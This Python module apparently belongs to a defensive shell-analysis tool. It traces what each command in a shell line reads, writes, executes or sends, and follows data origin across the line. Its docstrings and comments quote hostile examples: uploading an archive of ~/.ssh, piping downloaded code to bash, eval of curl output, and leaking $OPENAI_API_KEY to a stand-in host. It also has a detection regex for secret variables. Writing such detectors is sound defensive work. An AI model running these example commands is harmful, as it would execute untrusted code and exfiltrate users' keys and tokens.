"""The effects of a shell line: each command's effects from the catalogue and its redirects,
then the data flow between the commands of the line.

Data flow: what a command writes keeps the origin of what it wrote (downloaded, decoded,
literal code) and the files it carried (`tar czf /tmp/k.tgz ~/.ssh`); a later command that
runs, installs, sources or sends that file is judged with that origin: `curl -o x URL &&
bash x` executes network code, `tar czf k.tgz ~/.ssh && curl -F f=@k.tgz` sends keys.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import NamedTuple

import re2

from sidecar.code import analyse_code, code_invocations
from sidecar.effects.catalogue import Catalogue, ParsedCommand, effects_of
from sidecar.effects.hosts import host_of
from sidecar.effects.model import ENVIRONMENT, STDIN, UNRESOLVED, Action, Effect, Origin
from sidecar.effects.paths import normalise
from sidecar.effects.renames import mark_renames
from sidecar.shell.printing import printed_text
from sidecar.shell.walk import ShellAnalysis, SimpleCommand, trusted_generator
from sidecar.shell.walk import analyse as shell_analyse

_HARMLESS_TARGETS = frozenset({"/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty"})
_OUTPUT_ORIGINS = {
    "network": Origin.NETWORK,
    "decoded": Origin.DECODED,
    "literal": Origin.LITERAL,
    "printf": Origin.LITERAL,
}
# Commands the walk records for the shell's own bookkeeping.
_BOOKKEEPING = frozenset({"(assign)", "export", "declare", "local", "readonly", "typeset", "unset"})
_ENV_PRINTERS = frozenset({"env", "printenv", "set", "export", "declare"})
# Programs that unpack archives: what they extract keeps the archive's origin.
_UNPACKERS = frozenset({"tar", "unzip", "7z", "gunzip", "bunzip2", "unxz", "cpio", "ar"})
# What a read-only line may do: read files and fetch from the network (a GET that prints).


class LineEffects(NamedTuple):
    effects: tuple[Effect, ...]
    unknown_programs: tuple[str, ...]  # programs the catalogue does not know
    read_only: bool  # every command is a known read-only one, writing nothing
    problems: tuple[str, ...] = ()  # what code given to interpreters left unresolved
    cwd: str = ""  # where the line's last `cd` leaves the shell ("" = where it started)
    spawned: tuple[ShellAnalysis, ...] = ()  # command lines that code in the line runs


@dataclass(slots=True)
class _Flow:
    """What the line has produced so far, by path."""

    origins: dict[str, Origin] = field(default_factory=dict)  # file -> origin of its content
    contents: dict[str, str] = field(default_factory=dict)  # file -> literal content written
    carried: dict[str, tuple[str, ...]] = field(default_factory=dict)  # file -> sources in it
    unpacked: Origin = Origin.NONE  # an archive of this origin was unpacked into the workspace
    outputs: dict[int, tuple[Origin, tuple[str, ...], str]] = field(default_factory=dict)
    cwd: str = ""  # where `cd` moved the line to, when known ("" = the call's own directory)
    trees: dict[str, Origin] = field(default_factory=dict)  # directory -> origin of all in it


def line_effects(
    analysis: ShellAnalysis,
    catalogue: Catalogue,
    code_effects: Callable[[SimpleCommand], Iterable[Effect]] | None = None,
    depth: int = 0,
) -> LineEffects:
    flow = _Flow()
    effects: list[Effect] = []
    unknown: list[str] = []
    problems: list[str] = []
    spawned: list[ShellAnalysis] = []
    read_only = not analysis.problems and not analysis.parse_error
    for command in analysis.commands:
        if command.program in _BOOKKEEPING:
            continue
        found, known, quiet = _command_effects(command, catalogue, flow)
        if command.program in _CHANGES_DIRECTORY:
            _change_directory(command, flow)  # after its own effects: `cd x` reads x here
        if code_effects is not None:
            found.extend(code_effects(command))
        code_found, code_problems = _interpreted(command, catalogue, flow, depth, spawned)
        if code_found or code_problems:
            if flow.cwd:
                code_found = [rebased(effect, flow.cwd) for effect in code_found]
            found.extend(code_found)
            problems.extend(code_problems)
            read_only = False
        if not known:
            unknown.append(command.program)
            read_only = False
        elif not quiet or any(
            e.action not in _LOOKS and "runs_read_only" not in e.flags for e in found
        ):
            read_only = False
        effects.extend(found)
    read_only = read_only and bool(effects or analysis.commands)
    return LineEffects(
        tuple(effects),
        tuple(dict.fromkeys(unknown)),
        read_only,
        tuple(dict.fromkeys(problems)),
        flow.cwd,
        tuple(spawned),
    )


_CHANGES_DIRECTORY = frozenset({"cd", "pushd", "chdir"})
_SHELL_PROGRAMS = frozenset(
    {"sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "csh", "tcsh", "busybox-sh"}
)


def _runs_dynamic_code(command: SimpleCommand, parsed: ParsedCommand) -> bool:
    """A shell's -c script or eval's text known only at run time."""
    if command.program in ("eval", "source", "."):
        if trusted_generator(command.input_from):
            return False  # eval "$(direnv hook bash)": a local setup tool's code
        return any(type(w) is not str for w in command.args)
    if command.program in _SHELL_PROGRAMS and "command" in parsed.named:
        return bool(parsed.operands) and type(parsed.operands[0]) is not str
    return False


def _change_directory(command: SimpleCommand, flow: _Flow) -> None:
    """`cd ~ && python3 -m http.server`: later relative paths are below the new place."""
    target = next((w for w in command.positionals if w != "-"), "~")
    if type(target) is not str:
        flow.cwd = UNRESOLVED  # `cd "$X"`: where is known only at run time
        return
    if target.startswith(("/", "~")):
        flow.cwd = normalise(target)
    elif flow.cwd and flow.cwd != UNRESOLVED:
        flow.cwd = normalise(flow.cwd + "/" + target)
    else:
        flow.cwd = normalise(target)  # below (or, with .., out of) where the line started


def rebased(effect: Effect, cwd: str) -> Effect:
    """A relative path after a `cd` is below where the line went."""
    target = effect.target
    data = effect.data
    if effect.action in _PATH_ACTIONS and _relative(target):
        target = _join(cwd, target)
    if data and any(_relative(d) for d in data):
        data = tuple(_join(cwd, d) if _relative(d) else d for d in data)
    if target is effect.target and data is effect.data:
        return effect
    return effect._replace(target=target, data=data)


def _relative(path: str) -> bool:
    return bool(path) and not path.startswith(("/", "~", "?", "(")) and path != STDIN


def _join(cwd: str, path: str) -> str:
    if cwd == UNRESOLVED:
        return UNRESOLVED + "/" + path if path != "." else UNRESOLVED
    return normalise(cwd + "/" + path) if path != "." else cwd


_MAX_CODE_DEPTH = 3
_INTERPRETER_LANGUAGES = {
    "python": "python", "python2": "python", "python3": "python", "pypy": "python",
    "pypy3": "python", "node": "javascript", "nodejs": "javascript", "deno": "javascript",
    "bun": "javascript", "ruby": "ruby", "perl": "perl", "php": "php", "pwsh": "powershell",
    "powershell": "powershell",
}  # fmt: skip
_SUFFIX_LANGUAGES = {
    ".py": "python", ".js": "javascript", ".mjs": "javascript", ".cjs": "javascript",
    ".ts": "javascript", ".rb": "ruby", ".pl": "perl", ".php": "php", ".ps1": "powershell",
}  # fmt: skip


def _interpreted(
    command: SimpleCommand,
    catalogue: Catalogue,
    flow: _Flow,
    depth: int,
    spawned: list[ShellAnalysis] | None = None,
) -> tuple[list[Effect], list[str]]:
    """Effects of code a command hands to an interpreter (`python3 -c`, `node -e`, a
    here-document, a script written earlier in the line), and what it left unresolved."""
    if depth > _MAX_CODE_DEPTH:
        return [], []
    stdin = command.stdin_text
    if stdin is None and command.input_from is not None:
        known = flow.outputs.get(id(command.input_from))
        if known is not None and known[0] is Origin.LITERAL and known[2]:
            stdin = known[2]  # echo 'code' | python3
    invocations = list(code_invocations(command.program, command.args, stdin))
    language = _INTERPRETER_LANGUAGES.get(command.program) or (
        "python" if command.program.startswith("python") else ""
    )
    if language and not invocations:
        script = next((a for a in command.positionals if type(a) is str), None)
        if script is not None:
            content = flow.contents.get(normalise(script))
            if content:
                invocations.append((language, content))  # a script written earlier
    found: list[Effect] = []
    problems: list[str] = []
    for code_language, code in invocations:
        result = analyse_code(code_language, code)
        problems.extend(result.problems)
        for effect in result.effects:
            target = effect.target
            if effect.action in _PATH_ACTIONS and target not in (STDIN, UNRESOLVED):
                target = normalise(target)
            found.append(effect._replace(target=target, flags=effect.flags | _IN_CODE))
        for line in result.shell[:32]:
            nested = shell_analyse(line)
            if spawned is not None:
                spawned.append(nested)  # the named rules judge these lines too
            problems.extend(nested.problems)
            if nested.parse_error:
                problems.append("code runs a command line that cannot be parsed")
            sub = line_effects(nested, catalogue, depth=depth + 1)
            found.extend(sub.effects)
            problems.extend(sub.problems)
            if spawned is not None:
                spawned.extend(sub.spawned)
    return found, problems


def script_language(path: str) -> str:
    """The language of a script file, by its suffix ("" if not one we analyse)."""
    for suffix, language in _SUFFIX_LANGUAGES.items():
        if path.endswith(suffix):
            return language
    return ""


_IN_CODE = frozenset({"in_code"})
_PATH_ACTIONS = frozenset(
    {Action.READ, Action.WRITE, Action.DELETE, Action.MOVE, Action.CHMOD, Action.CHOWN,
     Action.EXECUTE, Action.PERSIST}
)  # fmt: skip


def _command_effects(
    command: SimpleCommand, catalogue: Catalogue, flow: _Flow
) -> tuple[list[Effect], bool, bool]:
    """The command's effects, whether the catalogue knows it, and whether it only reads."""
    input_origin, input_sources, input_text = _input_of(command, catalogue, flow)
    program, args = _module_as_program(command)
    parsed = catalogue.parse(program, args, environment=command.environment)
    found: list[Effect] = []
    output_origin = Origin.NONE
    output_sources: tuple[str, ...] = ()
    output_text = ""
    read_only = False
    if command.word:
        path = normalise(command.word)
        found.append(
            Effect(
                Action.EXECUTE,
                path,
                _file_origin(path, flow),
                flags=_content_flag(path, flow),
                program=command.program,
                content=flow.contents.get(path, ""),
            )
        )
    if parsed is not None:
        spec = parsed.spec
        read_only = spec.read_only or (
            bool(spec.read_only_unless) and spec.read_only_unless.isdisjoint(parsed.named)
        )
        found.extend(effects_of(parsed, program, args, input_origin, input_text))
        if spec.decodes_when and not spec.decodes_when.isdisjoint(parsed.named):
            output_origin = Origin.DECODED
            output_sources = input_sources + tuple(
                e.target for e in found if e.action is Action.READ
            )
        elif spec.output != "none" and (not spec.output_when or spec.output_when & parsed.named):
            if spec.output == "input":
                output_origin, output_sources, output_text = (
                    input_origin,
                    input_sources,
                    input_text,
                )
            elif spec.output == "files":
                reads = [e.target for e in found if e.action is Action.READ]
                output_sources = tuple(reads) + input_sources
                output_origin = _strongest([_file_origin(p, flow) for p in reads] + [input_origin])
                if not reads:
                    output_text = input_text  # cat > x.sh <<EOF: what it was fed
            else:
                output_origin = _OUTPUT_ORIGINS[spec.output]
                if spec.output in ("literal", "printf"):
                    output_text = printed_text(command.program, command.args)
        runs_stdin = spec.runs_stdin and not parsed.operands and _STDIN_OFF.isdisjoint(parsed.named)
        if runs_stdin and command.input_from is not None:
            found.append(
                Effect(Action.EXECUTE, STDIN, input_origin, input_sources, program=command.program,
                       content=input_text)
            )  # fmt: skip
        if runs_stdin and command.stdin_text is not None:
            found.append(
                Effect(Action.EXECUTE, STDIN, Origin.LITERAL, program=command.program,
                       content=command.stdin_text)
            )  # fmt: skip
    if command.program in _ENV_PRINTERS and not command.positionals:
        output_sources = (ENVIRONMENT,)
    if parsed is not None and _runs_dynamic_code(command, parsed):
        # `bash -c "$X"` with X=$(curl ...), `eval "$(curl ...)"`: the code is what feeds it.
        found.append(Effect(Action.EXECUTE, STDIN, program=command.program))
    if parsed is not None and any(e.action in _NETWORK for e in found):
        found.extend(_secrets_sent(command, parsed.options, found))
    if parsed is not None and "custom_index" in parsed.named:
        found = _trusted_indexes(found, parsed, catalogue)
    if flow.cwd:
        found = [rebased(effect, flow.cwd) for effect in found]  # after `cd` in the line
    if program == "mv":
        found = mark_renames(found)
    found = [_with_flow(effect, flow, input_origin, input_sources, input_text) for effect in found]
    read_here = tuple(e.target for e in found if e.action is Action.READ)
    if read_here:  # tar czf k.tgz ~/.ssh: the archive carries what it read
        found = [
            e._replace(data=read_here) if e.action is Action.WRITE and not e.data else e
            for e in found
        ]
    found.extend(_redirect_effects(command, output_origin, output_sources, output_text, flow))
    _remember(found, flow, output_origin, output_sources, input_origin)
    flow.outputs[id(command)] = (output_origin, output_sources, output_text)
    return found, parsed is not None, read_only


_PYTHONS = frozenset({"python", "python3", "python2", "pypy", "pypy3"})


def _module_as_program(command: SimpleCommand) -> tuple[str, tuple[str, ...]]:
    """`python3 -m pip install x` is `pip install x`; `python -m http.server` is `http.server`."""
    program, args = command.program, command.args
    if program in _PYTHONS or (
        program.startswith("python") and program[6:].replace(".", "").isdigit()
    ):
        for index, word in enumerate(args):
            if word == "-m" and index + 1 < len(args):
                return args[index + 1], args[index + 2 :]
            if word.startswith("-m") and len(word) > 2:
                return word[2:], args[index + 1 :]
            if not word.startswith("-"):
                break
    return program, args


_NETWORK = frozenset({Action.SEND, Action.FETCH, Action.CONNECT})
_LOOKS = frozenset({Action.READ, Action.FETCH})  # what read-only commands may do
# `$GITHUB_TOKEN`, `${OPENAI_API_KEY}`: variables that hold secrets by their name.
_SECRET_VARIABLE = re2.compile(
    r"\$\{?([A-Za-z0-9_]*(?:TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY|"
    r"CREDENTIALS?|AUTH|SESSION_?KEY)[A-Za-z0-9_]*)\}?",
    re2.Options(),
)
# Options through which a program presents a credential to the host it talks to (using a
# token is not leaking it): curl -H 'Authorization: Bearer $TOKEN', -u user:$PASSWORD.
_CREDENTIAL_OPTIONS = frozenset(
    {"-H", "--header", "-u", "--user", "--oauth2-bearer", "--proxy-user", "-U", "--http-user",
     "--http-password", "--password", "--aws-sigv4", "-E", "--cert", "--key"}
)  # fmt: skip


def _secrets_sent(
    command: SimpleCommand, options: Mapping[str, tuple[str, ...]], effects: Sequence[Effect]
) -> list[Effect]:
    """A secret variable in a URL or body leaves the machine (`curl x.io/?k=$OPENAI_API_KEY`);
    the same variable in an auth header, sent to its own service, is just its use."""
    presented = {v for name in _CREDENTIAL_OPTIONS for v in options.get(name, ())}
    hosts = [e.target for e in effects if e.action in _NETWORK]
    found: list[Effect] = []
    for word in command.args:
        if type(word) is str or "$" not in word or word in presented:
            continue
        if word[:1] != "-" and ":" in word.split("$", 1)[0] and "://" not in word:
            continue  # httpie's `Header:$TOKEN`
        for name in _SECRET_VARIABLE.findall(word):
            leaks = [h for h in hosts if not _issued_by(name, h)]
            if leaks:
                flags = frozenset({"secret_variable"})
                found.append(
                    Effect(Action.SEND, leaks[0], data=(ENVIRONMENT,), flags=flags,
                           program=command.program)
                )  # fmt: skip
    return found


def _trusted_indexes(
    found: list[Effect], parsed: ParsedCommand, catalogue: Catalogue
) -> list[Effect]:
    """`pip install torch --index-url https://download.pytorch.org/...`: an index the policy
    trusts is not a custom one."""
    spellings = [s for s, flag in parsed.spec.flag_names.items() if flag == "custom_index"]
    values = [v for s in spellings for v in parsed.options.get(s, ())]
    hosts = [host_of(v) for v in values]
    if not values or not all(h and catalogue.trusted_index(h) for h in hosts):
        return found
    return [
        e._replace(flags=e.flags - {"custom_index"}) if "custom_index" in e.flags else e
        for e in found
    ]


def _issued_by(variable: str, host: str) -> bool:
    """GITHUB_TOKEN to api.github.com, OPENAI_API_KEY to api.openai.com: the issuer itself."""
    vendor = variable.lower().split("_")[0]
    return len(vendor) >= 3 and vendor in host.lower()


def _output_of(
    command: SimpleCommand, catalogue: Catalogue, flow: _Flow, depth: int = 0
) -> tuple[Origin, tuple[str, ...], str]:
    """What a command prints, for a producer the line has not been through yet (the command
    inside `<(...)` or `$(...)` is seen by its consumer first)."""
    if depth > 8:
        return Origin.UNKNOWN, (), ""
    program, args = _module_as_program(command)
    parsed = catalogue.parse(program, args)
    if parsed is None:
        return Origin.UNKNOWN, (), ""
    spec = parsed.spec
    feed: tuple[Origin, tuple[str, ...], str] = (Origin.NONE, (), "")
    if command.input_from is not None:
        feed = _output_of(command.input_from, catalogue, flow, depth + 1)
    reads = tuple(
        e.target for e in effects_of(parsed, program, args, feed[0]) if e.action is Action.READ
    )
    if spec.decodes_when and not spec.decodes_when.isdisjoint(parsed.named):
        return Origin.DECODED, reads + feed[1], ""
    if spec.output == "network":
        return Origin.NETWORK, (), ""
    if spec.output == "decoded":
        return Origin.DECODED, reads + feed[1], ""
    if spec.output in ("literal", "printf"):
        return Origin.LITERAL, (), printed_text(command.program, command.args)
    if spec.output == "input":
        return feed
    if spec.output == "files":
        origin = _strongest([_file_origin(p, flow) for p in reads] + [feed[0]])
        return origin, reads + feed[1], ""
    if command.program in _ENV_PRINTERS and not command.positionals:
        return Origin.UNKNOWN, (ENVIRONMENT,), ""
    return Origin.UNKNOWN, (), ""


def _input_of(
    command: SimpleCommand, catalogue: Catalogue, flow: _Flow
) -> tuple[Origin, tuple[str, ...], str]:
    source = command.input_from
    if source is not None:
        known = flow.outputs.get(id(source))
        if known is None:
            known = _output_of(source, catalogue, flow)
        origin, sources, text = known
        # What an arbitrary program prints is not known in advance.
        return (origin if origin is not Origin.NONE else Origin.UNKNOWN), sources, text
    if command.stdin_text is not None:
        return Origin.LITERAL, (), command.stdin_text
    for redirect in command.redirects:
        if redirect.operator == "<":
            path = normalise(redirect.target)
            if path in _EMPTY_INPUTS:
                return Origin.LITERAL, (), ""  # `s_client </dev/null`: nothing is fed
            return _file_origin(path, flow), (path,), flow.contents.get(path, "")
    return Origin.NONE, (), ""


_EMPTY_INPUTS = frozenset({"/dev/null", "/dev/zero"})
# Named flags by which an interpreter gets its code elsewhere than standard input.
_STDIN_OFF = frozenset({"command", "module", "file"})
_TREE_FLAGS = frozenset({"unpack", "directory"})
_RUNS = frozenset({Action.EXECUTE, Action.PERSIST, Action.INSTALL})
_UNRESOLVED = frozenset({"unresolved"})


def _with_flow(
    effect: Effect,
    flow: _Flow,
    input_origin: Origin,
    input_sources: tuple[str, ...],
    input_text: str = "",
) -> Effect:
    """Resolve an effect's origin and data against what the line produced before it."""
    action = effect.action
    if action is Action.EXECUTE and "://" in effect.target:
        return effect._replace(origin=Origin.NETWORK)  # deno run https://..., node URL
    if effect.target == STDIN and action in _RUNS and effect.origin is Origin.NONE:
        fed = input_origin if input_origin is not Origin.NONE else Origin.UNKNOWN
        flags = effect.flags - _UNRESOLVED
        return effect._replace(
            origin=fed, data=input_sources, flags=flags, content=input_text or effect.content
        )
    if (
        action in (Action.EXECUTE, Action.INSTALL, Action.PERSIST)
        and effect.target not in (STDIN, UNRESOLVED)
        and "project" not in effect.flags  # building a checkout is not running a download
    ):
        produced = _file_origin(effect.target, flow)
        if produced is not Origin.FILE and produced is not Origin.NONE:
            content = flow.contents.get(effect.target, effect.content)
            return effect._replace(origin=_strongest([produced, effect.origin]), content=content)
    if action is Action.SEND and (effect.data or input_sources):
        data: list[str] = []
        for item in effect.data or (STDIN,):
            if item == STDIN:
                data.extend(input_sources or ())
            else:
                data.append(item)
                data.extend(flow.carried.get(item, ()))
        return effect._replace(data=tuple(dict.fromkeys(data)))
    return effect


def _redirect_effects(
    command: SimpleCommand,
    origin: Origin,
    sources: tuple[str, ...],
    text: str,
    flow: _Flow,
) -> list[Effect]:
    found: list[Effect] = []
    for redirect in command.redirects:
        operator, target = redirect.operator, redirect.target
        if target in _HARMLESS_TARGETS or target.startswith("&"):
            continue
        host = (
            host_of(target)
            if target.startswith("/dev/tcp/") or target.startswith("/dev/udp/")
            else ""
        )
        if host:
            port = target.split("/")[4] if target.count("/") >= 4 else ""
            reached = f"{host}:{port}" if port.isdigit() else host  # the port says whose
            found.append(Effect(Action.CONNECT, reached, program=command.program))
            if ">" in operator:
                found.append(Effect(Action.SEND, host, data=sources, program=command.program))
            continue
        path = normalise(target) if type(target) is str else UNRESOLVED
        if ">" in operator:
            flags = frozenset({"append"}) if ">>" in operator else frozenset({"truncate"})
            if path == UNRESOLVED:
                flags |= {"unresolved"}
            found.append(Effect(Action.WRITE, path, origin, sources, flags, command.program, text))
        elif operator == "<":
            found.append(Effect(Action.READ, path, program=command.program))
    return found


def _remember(
    effects: Sequence[Effect],
    flow: _Flow,
    output_origin: Origin,
    output_sources: tuple[str, ...],
    input_origin: Origin = Origin.NONE,
) -> None:
    reads = tuple(e.target for e in effects if e.action is Action.READ)
    for effect in effects:
        if effect.action is Action.WRITE and effect.target != UNRESOLVED:
            origin = effect.origin if effect.origin is not Origin.NONE else output_origin
            if origin is not Origin.NONE:
                flow.origins[effect.target] = origin
            if effect.content:
                flow.contents[effect.target] = effect.content
            carried = effect.data or reads or output_sources
            if carried:
                flow.carried[effect.target] = tuple(carried)
        if (
            effect.action is Action.WRITE
            and effect.flags & _TREE_FLAGS
            and effect.target not in (UNRESOLVED, STDIN, "")
        ):
            tree_origin = effect.origin
            if tree_origin is Origin.NONE and "unpack" in effect.flags:
                # tar x -C dir: the archive read by the same command, or what feeds it.
                archive = next(
                    (flow.origins.get(e.target) for e in effects if e.action is Action.READ), None
                )
                tree_origin = archive or input_origin
            if tree_origin in (Origin.NETWORK, Origin.DECODED):
                flow.trees[effect.target] = tree_origin
        if effect.program in _UNPACKERS and effect.action is Action.READ:
            archive = flow.origins.get(effect.target)
            if archive is Origin.NETWORK or archive is Origin.DECODED:
                flow.unpacked = archive


def _file_origin(path: str, flow: _Flow) -> Origin:
    origin = flow.origins.get(path)
    if origin is not None:
        return origin
    for tree, tree_origin in flow.trees.items():
        if path == tree or path.startswith(tree.rstrip("/") + "/"):
            return tree_origin  # git clone URL dir && bash dir/install.sh
    if flow.unpacked is not Origin.NONE and not path.startswith(("/", "~")):
        return flow.unpacked  # ./install.sh after unpacking a download
    return Origin.FILE


def _content_flag(path: str, flow: _Flow) -> frozenset[str]:
    return frozenset({"written_here"}) if path in flow.origins else frozenset()


_ORIGIN_STRENGTH = {
    Origin.NETWORK: 5,
    Origin.DECODED: 4,
    Origin.UNKNOWN: 3,
    Origin.LITERAL: 2,
    Origin.FILE: 1,
    Origin.NONE: 0,
}


def _strongest(origins: Iterable[Origin]) -> Origin:
    """The most worrying origin among several (network beats decoded beats unknown ...)."""
    best = Origin.NONE
    for origin in origins:
        if _ORIGIN_STRENGTH[origin] > _ORIGIN_STRENGTH[best]:
            best = origin
    return best
